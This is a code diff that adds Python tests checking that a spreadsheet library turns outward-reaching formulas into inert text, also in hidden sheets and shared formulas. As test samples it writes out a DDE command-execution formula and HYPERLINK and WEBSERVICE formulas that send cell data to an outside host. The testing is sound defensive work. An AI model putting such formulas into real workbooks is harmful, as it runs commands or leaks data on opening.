@@ -15,6 +15,8 @@ from geodata.errors import Fault
 from geodata.lists.list_cells import harmless
 from geodata.lists.list_columns import guess
 from geodata.lists.list_files import MOST_BYTES, open_list
+from geodata.lists.list_formulas import reaches_out
+from geodata.lists.list_sheet import read_sheet
 from geodata.lists.list_text import TextList
 from geodata.lists.list_workbook import WorkbookList
 
@@ -180,6 +182,39 @@ def test_the_beginning_shows_days_and_times_as_the_sheet_does(epoch, days):
         "Storgatan 1", "2026-05-01", "2026-05-01 12:00", "06:00", str(days), str(days),
     ]  # fmt: skip
     assert listed.scan([1], header=1, tick=lambda _: None).columns == [[str(days)]]
+
+
+def test_formulas_of_other_sheets_that_reach_out_are_neutralised_and_the_rest_stays():
+    """Also in a sheet that does not show, and in cells that share one formula."""
+    book = openpyxl.load_workbook(io.BytesIO(workbook()))
+    book["Annat"]["B1"] = "=cmd|'/c calc'!A1"
+    book["Annat"]["C1"] = '=HYPERLINK("http://x.se/"&A1,"Se här")'
+    hidden = book.create_sheet("Dolt")
+    hidden.sheet_state = "hidden"
+    hidden["A1"], hidden["A2"] = '=WEBSERVICE("http://x.se")', "=SUM(Lista!D2:D3)"
+    stream = io.BytesIO()
+    book.save(stream)
+    opened = open_list(stream, "lista.xlsx")
+    opened.scan([1], header=1, tick=quiet)
+    out = io.BytesIO()
+    assert opened.write(out, ["A"], lambda _: ["b"], quiet) == 4
+    answer = openpyxl.load_workbook(out)
+    assert [cell.value for cell in answer["Annat"][1]] == [
+        "=1+1", "'=cmd|'/c calc'!A1", "'=HYPERLINK(\"http://x.se/\"&A1,\"Se här\")",
+    ]  # fmt: skip
+    assert [cell.data_type for cell in answer["Annat"][1]] == ["f", "s", "s"]
+    assert [row[0].value for row in answer["Dolt"]] == ['\'=WEBSERVICE("http://x.se")', "=SUM(Lista!D2:D3)"]
+
+
+def test_cells_that_share_a_formula_lose_it_together():
+    part = (
+        b'<worksheet xmlns="x"><sheetData><row r="1"><c r="A1"><f t="shared" ref="A1:A2" si="0">cmd|1!A1</f><v>5</v></c>'
+        b'</row><row r="2"><c r="A2"><f t="shared" si="0"/><v>6</v></c><c r="B2"><f>A1</f><v>7</v></c></row>'
+        b"</sheetData></worksheet>"
+    )
+    found = read_sheet(io.BytesIO(part), [], wanted={}, drops=reaches_out)
+    assert found.formulas == 2
+    assert b"".join(part[a:b] for a, b, _ in found.edits).count(b"<f") == 2
 
 
 def test_a_formula_without_a_value_becomes_harmless_text():
